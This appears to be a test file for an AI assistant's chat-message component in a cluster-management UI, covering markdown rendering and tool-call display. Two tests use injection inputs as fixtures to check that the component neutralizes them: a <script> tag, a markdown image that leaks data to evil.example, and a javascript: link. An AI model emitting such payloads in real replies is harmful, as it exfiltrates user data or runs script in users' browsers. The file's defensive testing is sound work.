import { describe, expect, it } from "vitest";
import { screen } from "@testing-library/react";
import { renderWithProviders } from "@/test/render";
import { ChatMessage } from "./chat-message";
import { splitBlocks } from "./markdown";

const reply = (text: string, streaming = false) => ({ kind: "assistant" as const, id: "a1", text, streaming });

describe("ChatMessage", () => {
  it("shows a <script> in a reply as text and never creates the element", () => {
    const { container } = renderWithProviders(<ChatMessage item={reply("Look: <script>window.__x = 1</script> and <b>bold?</b>")} admin={false} />);
    expect(screen.getByRole("article", { name: "Assistant said" })).toHaveTextContent("<script>window.__x = 1</script>");
    expect(screen.getByRole("article", { name: "Assistant said" })).toHaveTextContent("<b>bold?</b>");
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("b")).toBeNull();
  });

  it("does not load images or keep javascript: links a reply contains", () => {
    const { container } = renderWithProviders(
      <ChatMessage item={reply("![x](https://evil.example/leak?d=secret) [click](javascript:alert(1))")} admin={false} />,
    );
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByText("click").closest("a");
    expect(link).not.toBeNull();
    expect(link?.getAttribute("href") ?? "").not.toMatch(/javascript/i);
  });

  it("renders markdown: headings, lists, tables, inline code and highlighted code blocks", () => {
    renderWithProviders(
      <ChatMessage
        item={reply("## Cause\n\n- one\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```yaml\napiVersion: v1\nkind: ConfigMap\n```\n")}
        admin={false}
        cluster="demo"
      />,
    );
    expect(screen.getByRole("heading", { name: "Cause" })).toBeInTheDocument();
    expect(screen.getAllByRole("listitem")).toHaveLength(2);
    expect(screen.getByRole("table")).toHaveTextContent("1");
    const block = screen.getByRole("figure", { name: "yaml code" });
    expect(block.querySelector(".text-sky-700")).toHaveTextContent("apiVersion");
    expect(screen.getByRole("button", { name: "Apply" })).toBeEnabled();
  });

  it("offers no Apply while the block is still streaming or without a cluster on screen", () => {
    renderWithProviders(<ChatMessage item={reply("```yaml\napiVersion: v1\nkind: ConfigMap\n", true)} admin={false} cluster="demo" />);
    expect(screen.getByRole("button", { name: "Apply" })).toBeDisabled();
    expect(screen.getByRole("article", { name: "Assistant said" })).toHaveAttribute("aria-busy", "true");
  });

  it("explains a missing provider: a link to the settings for admins, ask the administrator otherwise", () => {
    const item = { kind: "error" as const, id: "e", code: "provider_not_configured", message: "No provider.", errorKind: "no_provider" as const };
    const admin = renderWithProviders(<ChatMessage item={item} admin />);
    expect(screen.getByRole("link", { name: "Settings → AI Assistant" })).toHaveAttribute("href", "/settings/ai");
    admin.unmount();
    renderWithProviders(<ChatMessage item={item} admin={false} />);
    expect(screen.queryByRole("link")).toBeNull();
    expect(screen.getByRole("alert")).toHaveTextContent("Ask your administrator");
  });

  it("says a saved reply that failed before any text failed, rather than that it was empty", () => {
    renderWithProviders(<ChatMessage item={{ ...reply(""), stopReason: "error" }} admin={false} />);
    expect(screen.getByRole("article", { name: "Assistant said" })).toHaveTextContent("This reply failed before any text was written.");
  });

  it("shows a tool call compactly with a spinner while it runs, then its summary", () => {
    const running = { kind: "tool" as const, id: "t", name: "get_resources", arguments: { kind: "Pod", namespace: "shop" } };
    const view = renderWithProviders(<ChatMessage item={running} admin={false} />);
    expect(screen.getByText("List pods in shop")).toBeInTheDocument();
    expect(view.container.querySelector(".animate-spin")).not.toBeNull();
    view.unmount();
    renderWithProviders(<ChatMessage item={{ ...running, result: { ok: true, summary: "12 pods, 1 unhealthy" } }} admin={false} />);
    expect(screen.getByRole("group").querySelector("summary")).toHaveTextContent("Listed pods in shop — 12 pods, 1 unhealthy");
  });
});

describe("splitBlocks", () => {
  it("splits at blank lines but keeps a code fence with blank lines whole", () => {
    expect(splitBlocks("a\n\nb\n```\nx\n\ny\n```\n\nc")).toEqual(["a", "b\n```\nx\n\ny\n```", "c"]);
  });
});
